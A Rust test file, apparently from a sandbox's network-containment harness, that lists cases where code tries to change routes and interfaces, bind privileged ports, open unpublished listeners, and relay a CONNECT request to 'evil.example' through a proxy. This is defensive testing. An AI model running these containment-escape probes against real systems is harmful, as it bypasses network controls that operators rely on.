//! G: its own network, what it may not do to it, and what comes to it or passes through others.

#![expect(clippy::too_many_lines, reason = "tables of cases")]

use crate::case::{Case, Control, Sign, case, python, sh, sys, then};
use crate::network::own_address;
use crate::world::World;

/// All of it.
pub(crate) fn cases(world: &World) -> Vec<Case> {
    let apart = Control::Apart;
    let option = |level: i32, name: i32, value: &str| {
        then(&[
            sys(libc::SYS_socket, "2 1 0"),
            sys(
                libc::SYS_setsockopt,
                &format!("%0 {level} {name} #{value} 4"),
            ),
        ])
    };
    let bind = |kind: i32, port: u16| {
        then(&[
            sys(libc::SYS_socket, &format!("2 {kind} 0")),
            sys(libc::SYS_setsockopt, "%0 1 15 #01000000 4"),
            sys(
                libc::SYS_bind,
                &format!("%0 #0200{port:04x}00000000{} 16", "00".repeat(8)),
            ),
        ])
    };
    let mut cases = passing(world);
    cases.extend([
        case(
            "G35",
            "an interface",
            sh("ip link add wsm0 type veth"),
            Sign::Look(zero),
        )
        .control(apart),
        case(
            "G35b",
            "an address",
            sh("ip addr add 10.9.9.9/24 dev lo"),
            Sign::Look(zero),
        )
        .control(apart),
        case(
            "G35c",
            "a route",
            sh("ip link set lo up; ip route add 10.8.0.0/24 dev lo"),
            Sign::Look(zero),
        )
        .control(apart),
        case(
            "G35d",
            "a rule",
            sh("ip rule add from all lookup 7"),
            Sign::Look(zero),
        )
        .control(apart),
        case("G35f", "a mark", option(1, 36, "01000000"), Sign::Success),
        case(
            "G35g",
            "a foreign source",
            option(0, 19, "01000000"),
            Sign::Success,
        ),
        case(
            "G35h",
            "forced buffers",
            option(1, 33, "00000010"),
            Sign::Success,
        ),
        case(
            "G35i",
            "a high priority",
            option(1, 12, "07000000"),
            Sign::Success,
        ),
        case(
            "G35j",
            "the loopback down",
            sh("ip link set lo down"),
            Sign::Look(zero),
        )
        .control(apart),
        case("G36", "take the port of names", bind(2, 53), Sign::Success).control(apart),
        case("G36b", "take the port of TLS", bind(1, 443), Sign::Success).control(apart),
        case(
            "G36c",
            "take the proxy's port",
            bind(1, 1023),
            Sign::Success,
        )
        .control(apart),
        case("G36d", "take the port of HTTP", bind(1, 80), Sign::Success).control(apart),
    ]);
    cases
}

fn zero(_: &World, outcome: &crate::attacker::Outcome) -> Option<String> {
    (outcome.last() == 0).then(|| outcome.detail())
}

/// What passes through others: a relay of its own, a port that the host may come to, UDP to a name.
fn passing(world: &World) -> Vec<Case> {
    let (tcp, udp, port) = (
        world.listeners.tcp,
        world.listeners.udp,
        world.listeners.allowed,
    );
    let relay = format!(
        "import socket, threading\nl = socket.create_server(('127.0.0.1', 0))\n\
         def relay():\n c, _ = l.accept()\n o = socket.create_connection(('127.0.0.1', 1023), 3); o.settimeout(3)\n \
         o.sendall(c.recv(999)); c.sendall(o.recv(999)); o.sendall(c.recv(999)); c.sendall(o.recv(999))\n\
         threading.Thread(target=relay, daemon=True).start()\n\
         s = socket.create_connection(l.getsockname()); s.settimeout(3)\n\
         s.sendall(b'CONNECT evil.example:{port} HTTP/1.1\\r\\nhost: evil.example:{port}\\r\\n\\r\\n'); s.recv(999)\n\
         s.sendall(b'GET /G25b-inG25b-out HTTP/1.1\\r\\nhost: evil.example:{port}\\r\\n\\r\\n'); s.recv(999)\n"
    );
    let quic = |to: &str| {
        python(&format!(
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             s.sendto(b'G30-in G30-out', (socket.gethostbyname('{to}'), {udp}))\n"
        ))
    };
    let bound = "import socket, time\ns = socket.create_server(('0.0.0.0', 8477))\ntime.sleep(9)";
    vec![
        case(
            "G25b",
            "through a relay of its own to the proxy",
            python(&relay),
            Sign::Facts,
        )
        .control(Control::Permitted),
        case(
            "G30",
            "UDP to a host that is allowed",
            quic("allowed.example"),
            Sign::Facts,
        )
        .by(Control::Host, quic("127.0.0.1")),
        case(
            "G27b",
            "be reached on a port that is not published",
            sh(&format!("python3 -c \"{bound}\" >/dev/null 2>&1 & sleep 1")),
            Sign::Look(|_, _| {
                let addresses = [Some("127.0.0.1".to_owned()), own_address()];
                let reached = addresses
                    .into_iter()
                    .flatten()
                    .find(|address| std::net::TcpStream::connect((address.as_str(), 8477)).is_ok());
                reached.map(|address| format!("{address} leads to it"))
            }),
        ),
        case(
            "G01d",
            "TCP to the host's loopback from a port of its own choice",
            python(&format!(
                "import socket\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.settimeout(3)\n\
                 s.connect(('127.0.0.1', {tcp})); s.sendall(b'G01d-in G01d-out')"
            )),
            Sign::Facts,
        ),
    ]
}
